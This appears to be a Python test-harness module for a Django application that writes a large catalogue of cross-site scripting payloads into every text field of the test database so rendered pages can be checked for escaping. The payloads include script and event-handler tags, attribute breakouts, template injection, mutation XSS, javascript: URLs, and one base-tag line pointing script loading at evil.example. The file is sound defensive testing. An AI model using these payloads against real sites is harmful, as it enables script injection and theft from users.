"""Texts that a page without escaping would run or obey, written into every text of the world."""

from collections.abc import Iterator
from itertools import count, cycle
from typing import Any

import pgtrigger
from django.db import models

from tests.harness import canaries, walk
from tests.harness.world import World

RUN = "alert(1)"
PAYLOADS = [
    # Elements that run at once
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src=data:,{RUN}></script>",
    f"<script>{RUN}//",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<svg><set onbegin={RUN} attributename=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=data:, onload={RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=//evil.example><script src=x></script>",
    f"<form action=javascript:{RUN}><button autofocus>",
    f"<a href=javascript:{RUN}>a</a>",
    # Out of attributes, texts, comments and scripts
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onfocus={RUN} autofocus="',
    f"' onfocus={RUN} autofocus='",
    f"` onload={RUN} `",
    f'"><img src=x onerror={RUN}>',
    f'\\"><svg onload={RUN}>',
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</select><img src=x onerror={RUN}>",
    f"';{RUN}//",
    f'";{RUN}//',
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{ 7|add:7 }}{% debug %}",
    # Mutation: harmless until parsed a second time
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    "<img src=x onerror=&#97;lert(1)>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    # Addresses, directions, invisible characters, htmx
    f"javascript:{RUN}",
    f"JaVa\tScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"\u202e<svg onload={RUN}>\u202c",
    f"<\u200bscript>{RUN}</script>\u200d＜script＞{RUN}＜/script＞",
    f'<div hx-on::load="{RUN}" hx-get=/ hx-trigger=load>',
]
# For columns of a few characters.
SHORT = ["<b>", "\"'>", "<!--", "</p>", "{{1}}", "<s>", "'\">", "&lt;", "{%x", "\u202e<i>"]
SPACE = " "


def plant(world: World, turn: int = 0) -> int:
    """Every text of every record is as many payloads as fit; each turn begins with other ones."""
    pairs: set[tuple[str, str]] = set()
    with pgtrigger.ignore(*canaries.guards()):
        for model in walk.models():
            fields = [field for field in canaries.texts_of(model) if is_open(field)]
            supplies = {field.name: _supply(field, turn) for field in fields}
            for row in model._base_manager.order_by("pk"):
                values = {}
                for field in fields:
                    taken = list(_that_fit(field, supplies[field.name], row))
                    pairs |= {(f"{model._meta.label}.{field.name}", payload) for payload in taken}
                    values[field.name] = _text(field, getattr(row, field.name), taken, row)
                if values:
                    model._base_manager.filter(pk=row.pk).update(**values)
    for record in (*world.users.values(), *world.records.values()):
        record.refresh_from_db()
    return len(pairs)


def is_open(field: models.Field) -> bool:
    """Short names stand in addresses and take letters and hyphens only."""
    return not isinstance(field, models.SlugField)


def _supply(field: models.Field, turn: int) -> Iterator[str]:
    stock = [one for one in PAYLOADS if len(one) + 8 <= (field.max_length or 9999)] or SHORT
    start = turn * max(len(stock) // 3, 1) % len(stock)
    return cycle(stock[start:] + stock[:start])


def _that_fit(field: models.Field, supply: Iterator[str], row: Any) -> Iterator[str]:
    room = (field.max_length or 9999) - len(str(row.pk)) - 1
    for number in count(1):
        payload = next(supply)
        room -= len(payload) + 1
        yield payload
        longest = max(map(len, PAYLOADS)) if (field.max_length or 9999) > 100 else 40
        if room < longest or number == len(PAYLOADS) or isinstance(field, models.EmailField):
            return


def _text(field: models.Field, old: Any, payloads: list[str], row: Any) -> Any:
    text = SPACE.join(payloads)
    if isinstance(field, models.JSONField):
        return _json(old, text)
    if isinstance(field, models.EmailField):
        quoted = payloads[0].replace("\\", "").replace('"', "'")
        return f'"{quoted}{row.pk}"@demo.example' if old else old
    return (
        f"{text}{row.pk}"[-(field.max_length or len(text) + 20) :]
        if old
        else text[: field.max_length]
    )


def _json(old: Any, text: str) -> Any:
    """What people typed into a statement, and the groups of facts beside it."""
    if isinstance(old, dict):
        return dict.fromkeys(old, text)
    named = dict.fromkeys(("label", "value", "lang", "expansion", "detail", "source"), text)
    row = {**named, "needs_action": True, "unconfirmed": True}
    return [*(old or []), {"title": text, "rows": [row]}]
